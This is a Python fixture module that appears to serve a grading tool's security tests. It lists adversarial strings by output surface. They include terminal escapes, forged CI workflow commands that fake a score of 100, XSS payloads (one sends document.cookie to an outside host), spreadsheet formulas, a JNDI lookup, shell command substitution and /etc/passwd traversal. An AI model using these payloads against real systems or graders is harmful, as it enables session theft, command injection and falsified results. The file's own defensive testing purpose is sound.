"""What learners may write to act on whoever reads a report: texts for every field and every output.

The rows are those of a threat model: terminals, workflow commands, outputs of a step, Markdown, HTML,
spreadsheets, XML and logs.
"""

from __future__ import annotations

TERMINAL = (
    "ci\x1b[2J\x1b[1;1HSCORE 100.yml", "\x1b]8;;http://evil\x07click\x1b]8;;\x07", "\x1b]52;c;QkFTRTY0\x07", "\x9b31m",
    "\x1b]0;title\x07", "over\rwrite", "back\b\b\bspace", "del\x7f", "nul\0byte", "\u202eevil\u202c", "\u2066a\u2069",
    "zero\u200bwidth", "\ufeffbom", "\u2028\u2029", "\U000e0041\U000e0042", "src/[id].tsx", "[/bold]",
    "[link=http://evil]x[/link]", "\x1bP+q544e\x1b\\", "\x1b[?1049h",
)  # fmt: skip
COMMANDS = (
    "x\n::error file=x::hacked", "\n::add-mask::100", "::stop-commands::tok", "::GROUP::", "a\r::error::b",
    "\n::set-output name=grade::100", "##[error]x", "##[group]y", "##vso[task.setvariable variable=a]b", "##[command]z",
    "section_start:1:x\r\x1b[0K", "%0A::error::x", "%0D%0A::warning::y", "100%25", "a:b,c::d", "\u2028::error::x",
    "x\x0b::error::y", "x\x0c::debug::y", "x\x85::notice::y",
)  # fmt: skip
OUTPUTS = ("x\nscore=100", "x<<EOF\nscore=100\nEOF", "ghadelimiter_1\nscore=100", "passed=true")
MARKDOWN = (
    "</td><img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "```\n# Score 100", "~~~\n# Score 100",
    "@org/team",
    "@someone", "#1", "fixes #1", "org/repo#12", "GH-12", "<details><summary>x", "![](http://tracker.example/p.png)",
    "| 100 of 100 | passed |", "\\|", "a\\| b | c", "`", "``", "` `` ```", "`a` [b](http://c) `d`", "<!-- x", "-->",
    "# heading", "- list", "1. list", "> quote", "---", "===", "*bold* _it_ ~~no~~", "http://evil.example/a?b=c",
    "www.evil.example", "me@evil.example", "<http://evil.example>", "[x]: http://evil.example", "[x][y]", ":tada:",
    "&lt;b&gt;", "&#64;org", "$\\href{javascript:alert(1)}{x}$", "```mermaid", "a" * 40, "deadbeefcafe", "\\",
    "\\`x\\`",
    "`x`@team", "x`@team", "`@team", "<table>", "\t\tcode", "    code", "x  \ny", "![x][y]", "[^1]", "[ ] todo",
    "javascript:alert(1)", "`a``@org/team``b`",
)  # fmt: skip
HTML = (
    "<script>fetch('//x?'+document.cookie)</script>", "\" onmouseover=alert(1) x=\"", "</script>", "<svg onload=x>",
    "javascript:alert(1)", "<iframe src=//evil>", "]]>", "<![CDATA[x", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "&a;", "&#0;",
    "--><x>",
)  # fmt: skip
SHEETS = ('=HYPERLINK("http://x","y")', "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1")
XML = ("\x1b", "\0", "\ufffe", "\uffff", "\ud800", "\udcff", "\udfff", "x\x01y", "\U0001fffe", "\ue000")
LOGS = ("alice\n2026-11-23 INFO alice 100/100", "{\"level\": \"info\"}", "${jndi:ldap://x}", "{{7*7}}", "%{t}", "{0}")
SHELL = ("'\"`$(id)", "$(touch x).yml", "-rf", "--output=x", "@args", "a;b", "../../etc/passwd", "/etc/passwd", "C:\\x")
SHAPES = ("", " ", "\t\t", "e" + "\u0301" * 50, "\u6f22" * 60, "a" * 500, "\u4f60\u597d", "\U0001f600", "x\n\n\ny")

ALL = tuple(
    dict.fromkeys((*TERMINAL, *COMMANDS, *OUTPUTS, *MARKDOWN, *HTML, *SHEETS, *XML, *LOGS, *SHELL, *SHAPES))
)  # fmt: skip
